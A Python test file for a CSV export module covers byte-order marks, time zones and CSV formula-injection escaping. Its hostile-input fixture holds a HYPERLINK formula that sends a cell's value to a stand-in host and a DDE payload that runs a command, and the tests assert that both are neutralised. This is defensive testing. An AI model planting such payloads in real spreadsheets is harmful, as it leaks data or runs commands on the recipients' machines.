"""The platform's one CSV writer (ecohub.queries.export): one UTF-8 byte-order mark first,
times as ISO 8601 with their offset exactly as the JSON gives them. Expected bytes worked by
hand."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pandas as pd
import pyarrow as pa

from ecohub.queries.export import cells_csv, csv_bytes, plain, write_csv

CST = timezone(timedelta(hours=8))
# 2016-01-01 00:00 CST is 2015-12-31 16:00 UTC; the second value has half a second.
TIMES = [datetime(2015, 12, 31, 16, tzinfo=UTC), datetime(2015, 12, 31, 16, 0, 0, 500000, UTC)]


def _table(zone: str) -> pa.Table:
    return pa.table(
        {
            "name": ["奥体中心", None],
            "time": pa.array(TIMES, pa.timestamp("us", tz=zone)),
            "value": [209, 7],
        }
    )


def test_arrow_table_bom_header_and_cst_times() -> None:
    got = csv_bytes(_table("Asia/Shanghai")).decode("utf-8")
    assert got == (
        '\ufeff"name","time","value"\n'
        '"奥体中心","2016-01-01T00:00:00+08:00",209\n'
        ',"2016-01-01T00:00:00.500000+08:00",7\n'
    )


def test_times_are_the_json_text_of_the_same_values_in_their_zone() -> None:
    table = _table("Etc/UTC")
    got = csv_bytes(table).decode("utf-8-sig").splitlines()
    assert got[1].split(",")[1] == '"2015-12-31T16:00:00+00:00"'
    assert [plain(v) for v in table.column("time").to_pylist()] == [
        "2015-12-31T16:00:00+00:00",
        "2015-12-31T16:00:00.500000+00:00",
    ]


def test_data_frame_times_and_bom() -> None:
    df = pd.DataFrame(
        {"row": [2], "time": pd.to_datetime(["2016-01-01T00:00:00+08:00"]), "reason": ["坏"]}
    )
    assert csv_bytes(df).decode("utf-8") == (
        "\ufeffrow,time,reason\n2,2016-01-01T00:00:00+08:00,坏\n"
    )


def test_a_batch_reader_gets_one_bom_and_one_header(tmp_path: Path) -> None:
    table = _table("Asia/Shanghai")
    reader = pa.RecordBatchReader.from_batches(table.schema, table.to_batches(max_chunksize=1))
    out = write_csv(reader, tmp_path / "r.csv")
    assert out.read_bytes() == csv_bytes(table)
    assert out.read_bytes().count("\ufeff".encode()) == 1


def test_an_empty_table_is_a_bom_and_a_header(tmp_path: Path) -> None:
    schema = _table("Asia/Shanghai").schema
    reader = pa.RecordBatchReader.from_batches(schema, [])
    assert write_csv(reader, tmp_path / "e.csv").read_text("utf-8") == (
        '\ufeff"name","time","value"\n'
    )


def test_cells_for_the_cli() -> None:
    assert cells_csv(["a", "b"], [["1", "x,y"], ["", "区"]]) == '\ufeffa,b\n1,"x,y"\n,区\n'


# A station list from another bureau, as the assessment loaded it (finding F2): its text cells
# get a ' in front so no spreadsheet runs them; numbers, times and booleans stay as they are.
HOSTILE = pa.table(
    {
        "name": ['=HYPERLINK("http://e.example/?d="&A1,"看")', "@SUM(1+1)*cmd|' /C calc'!A0"],
        "name_en": ["+1+1", "-5"],
        "lon": [-116.5, 116.48],
        "n": [-3, 4],
        "ok": [True, False],
        "time": pa.array(TIMES, pa.timestamp("us", tz="Asia/Shanghai")),
    }
)
HOSTILE_CSV = (
    '\ufeff"name","name_en","lon","n","ok","time"\n'
    '"\'=HYPERLINK(""http://e.example/?d=""&A1,""看"")","\'+1+1",-116.5,-3,true,'
    '"2016-01-01T00:00:00+08:00"\n'
    '"\'@SUM(1+1)*cmd|\' /C calc\'!A0","-5",116.48,4,false,"2016-01-01T00:00:00.500000+08:00"\n'
)


def test_text_cells_that_a_spreadsheet_would_run_get_a_quote() -> None:
    assert csv_bytes(HOSTILE).decode("utf-8") == HOSTILE_CSV


def test_a_batch_reader_escapes_every_batch(tmp_path: Path) -> None:
    reader = pa.RecordBatchReader.from_batches(HOSTILE.schema, HOSTILE.to_batches(max_chunksize=1))
    assert write_csv(reader, tmp_path / "r.csv").read_text("utf-8") == HOSTILE_CSV


def test_data_frame_text_cells_and_names_escaped() -> None:
    df = pd.DataFrame({"=x": ["-1+1", "-5", None], "v": [-2.5, 1.0, 3.0]})
    assert csv_bytes(df).decode("utf-8") == "\ufeff'=x,v\n'-1+1,-2.5\n-5,1.0\n,3.0\n"


def test_cli_cells_escaped_numbers_kept() -> None:
    got = cells_csv(["=a", "b"], [["@x", "-3.5"], ["-1+1", "ok"]])
    assert got == "\ufeff'=a,b\n'@x,-3.5\n'-1+1,ok\n"
